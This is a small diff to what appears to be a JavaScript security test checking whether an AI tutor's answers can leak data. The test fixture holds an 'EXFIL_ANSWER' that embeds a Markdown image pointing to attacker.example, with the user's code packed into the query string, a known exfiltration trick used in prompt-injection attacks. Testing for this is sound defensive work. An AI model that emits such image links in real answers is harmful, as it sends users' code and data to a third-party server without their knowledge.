@@ -12,7 +12,7 @@ import { surfacesOf, verdict } from "./exposure-setup.js";
 const LEAK = "https://attacker.example/pixel.png?code=function%20twoSum(nums%2C%20target)";
 
 /** One image of each Markdown form, raw HTML that fetches, and a plain link (which must stay a link). */
-export const EXFIL_ANSWER = [
+const EXFIL_ANSWER = [
   "Think about which value you need to have seen before.",
   "",
   `![the two-pointer idea](${LEAK})`,
